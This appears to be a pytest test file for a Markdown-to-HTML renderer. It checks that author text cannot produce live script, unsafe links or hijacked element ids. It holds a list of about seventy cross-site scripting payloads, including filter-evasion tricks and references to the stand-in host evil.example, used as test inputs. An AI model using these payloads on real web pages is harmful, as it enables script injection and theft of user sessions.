"""Authors' Markdown: what it makes, and that nothing in it can run."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from city_relations.markdown.cleaned import KEPT as TAGS
from city_relations.markdown.source import parted
from city_relations.rendering.cleaning import SCHEMES
from city_relations.rendering.prose import Renderer
from reading import parse

RENDERER = Renderer()
# Attributes that may stand anywhere; others only where prose.py lists them.
_HARMLESS = """
    lang dir id title href hreflang src alt width height start colspan rowspan scope rel
"""
HARMLESS = frozenset(_HARMLESS.split())

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=x title='\"><script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action='https://evil.example'><input name=q><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</select>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1) src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='x' onclick='alert(1)' target=_blank ping='https://evil.example'>x</a>",
    "<area href='javascript:alert(1)'>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert`1`)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](&#x6A;avascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: /a 'x\" onmouseover=\"alert(1)'",
    '[x](/a "x\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "<javascript:alert(1)>",
    "mot{: onclick='alert(1)' }\n{: onclick='alert(1)' style='color:red' }",
    "## Titre {: #search onclick=alert(1) }",
    "[x](/a){: onclick=alert(1) target=_blank }",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "Terme\n:   <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "`<script>`<script>alert(1)</script>",
    "> <script>alert(1)</script>\n> — <img src=x onerror=alert(1)>",
    "<p id=main name=search class=rel-search data-rel-open=search>x</p>",
    "<img srcset='https://evil.example/x 1x' src=x>",
    "<a href='//evil.example'><img src=//evil.example/x></a>",
]


def same(target):
    """Resolve nothing, as the most careless caller would."""
    return target


def live(html):
    """Return whatever in a fragment could run, style, submit or steal the name of an element."""
    found = []
    for element in parse(f"<article>{html}</article>").find(".//article").iter():
        if element.tag == "article" or not isinstance(element.tag, str):
            continue
        found += [element.tag] if element.tag not in TAGS else []
        found += [name for name in element.attrib if name not in HARMLESS]
        found += [v for v in (element.get("id"),) if v and not v.startswith("p-")]
        urls = [element.get(name) for name in ("href", "src") if element.get(name)]
        found += [url for url in urls if _scheme(url) not in {"", *SCHEMES}]
    return found


def _scheme(url):
    """Return the scheme a browser sees: it drops blanks at the ends, tabs and line ends inside."""
    bare = "".join(c for c in url.strip("\x00\x1f ") if c not in "\t\r\n")
    head = bare.partition(":")[0]
    return head.lower() if ":" in bare and not set(head) & set("/?#") else ""


def test_there_are_enough_payloads():
    """At least forty-eight, none twice."""
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 48


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_lives(payload):
    """Alone, in a list and in a quotation, after words and before them, nothing stays alive."""
    for text in (payload, f"Mots {payload} mots", f"- {payload}", f"> {payload}", f"# {payload}"):
        assert live(RENDERER.render(text, same).html) == []


@pytest.mark.parametrize(
    "html", ["<script>x</script>", "<p onclick=x>", "<a href='javascript:x'>", "<p id=main>"]
)
def test_a_live_payload_would_be_seen(html):
    """The judge is awake: each kind of danger is told when it is there."""
    assert live(html)


PIECES = [*PAYLOADS, "\n\n", " ", "`", "\n    ", "<", ">", '"']


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=5))
def test_no_mixture_of_payloads_lives(parts):
    """However payloads are strung together, nothing stays alive."""
    assert live(RENDERER.render("".join(parts), same).html) == []


def test_a_target_that_resolves_to_nothing_is_no_link():
    """What must not link is told as plain text."""
    html = RENDERER.render("[là](x.md)", lambda _: None).html
    assert "href" not in html
    assert "là" in html


def test_targets_are_resolved_in_markdown_and_in_html():
    """Links and pictures go through the resolver whichever way they are written."""
    html = RENDERER.render("[a](a.md) <a href='a.md'>b</a> ![c](a.md)", lambda t: f"/{t}/").html
    assert html.count('"/a.md/"') == 3


def test_headings_start_at_two_and_their_ids_are_prefixed():
    """The page has its own title; a heading's id cannot be that of the search dialog."""
    prose = RENDERER.render("# Search\n\n## Deux\n\n[haut](#search)", same)
    assert '<h2 id="p-search">' in prose.html
    assert 'href="#p-search"' in prose.html
    assert [(h.id, h.title, h.level) for h in prose.headings] == [
        ("p-search", "Search", 2),
        ("p-deux", "Deux", 2),
    ]


def test_a_quotation_says_whose_it_is():
    """A last line after a dash becomes the caption of the quotation."""
    html = RENDERER.render("> Nous sommes liés.\n> — La maire", same).html
    assert "<figcaption>La maire</figcaption>" in html


def test_one_text_leaves_nothing_to_the_next():
    """Footnotes, abbreviations and references of one text are unknown to the next."""
    RENDERER.render(
        "HTML[^1] [x][r]\n\n[^1]: note\n\n*[HTML]: langage\n\n[r]: https://a.example", same
    )
    html = RENDERER.render("HTML [x][r]", same).html
    assert "abbr" not in html
    assert "href" not in html


def test_plain_writing_comes_through():
    """Paragraphs, lists, tables, quotes, notes and Arabic are what they were meant to be."""
    html = RENDERER.render(
        "Un *mot*, **gras**, تارودانت & <b>vrai</b>.\n\n1. un\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        same,
    ).html
    for part in ("<em>mot</em>", "<strong>gras</strong>", "تارودانت &amp;", "<ol>", "<td>1</td>"):
        assert part in html


def test_columns_keep_their_side():
    """A column set right or in the middle stays so, by a class of ours; no other class comes in."""
    html = RENDERER.render(
        "| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |\n\n"
        "<table><tr><td class='evil'>4</td></tr></table>",
        same,
    ).html
    for part in (
        "<td>1</td>",
        '<td class="rel-number">2</td>',
        '<td class="rel-centre">3</td>',
        "<td>4</td>",
    ):
        assert part in html


@pytest.mark.parametrize("element", ["div", "em", "blockquote", "span"])
def test_what_is_nested_beyond_reason_is_set_flat(element):
    """A text nested hundreds deep keeps its words and loses its nesting; forty deep stays."""
    for depth, nested in ((30, True), (300, False)):
        html = RENDERER.render(f"<{element}>" * depth + "mots", same).html
        assert "mots" in html
        assert (f"<{element}>" in html) is nested
    assert "mots" in RENDERER.render("> " * 90 + "mots", same).html


LONG = "Une longue ligne, que personne n’a coupée, " * 4 + "finit ici."
UNPARTED = [
    f"{LONG}  \nUn vers.",
    f"{LONG}\\\nUn vers.",
    f"{LONG}\n- un point",
    f"{LONG}\n1. un point",
    f"{LONG}\n    de côté",
    f"{LONG}\n> une citation",
    f"> {LONG}\n— Le maire",
    f"{LONG}\n## Un titre",
    f"{LONG}\n---",
    f"{LONG}\n: une définition",
    f"{LONG}\n[site]: https://turin.example/",
    f"{LONG}\n[^1]: une note",
    f"{LONG}\n*[UE]: Union",
    f"{LONG}\n<b>HTML</b>",
    f"{LONG} | b\n--- | ---\nc | d",
    f"```\n{LONG}\ncode\n```",
    f"<pre>\n{LONG}\ncode</pre>",
    f"    {LONG}\n    code",
    f"{LONG[:150]}\nUne ligne coupée.",
    f"{LONG}\n\nUn paragraphe.",
    f"{LONG}\n",
]


def test_paragraphs_pasted_from_word_stay_apart():
    """The end of a line too long to be a broken one is the end of a paragraph."""
    pasted = f"{LONG}\n{LONG}\n**Enfin**, un mot."
    assert RENDERER.render(pasted, same).html.count("<p>") == 3
    assert RENDERER.render(f"> {LONG}\nUn mot.", same).html.count("</blockquote>\n<p>") == 1


@pytest.mark.parametrize("text", UNPARTED)
def test_what_is_no_new_paragraph_stays_as_it_is(text):
    """Code, lists, tables, quotes, notes and lines broken on purpose are not parted."""
    assert parted(text) == text


LINES = st.sampled_from([LONG, f"> {LONG}", "Un mot.", "", "- un point", "```", "<pre>", "a | b"])


@given(st.lists(LINES, max_size=8).map("\n".join))
def test_parting_twice_is_parting_once(text):
    """Paragraphs parted already stay as they are, and nothing but blank lines is added."""
    once = parted(text)
    assert parted(once) == once
    assert [x for x in once.split("\n") if x] == [x for x in text.split("\n") if x]
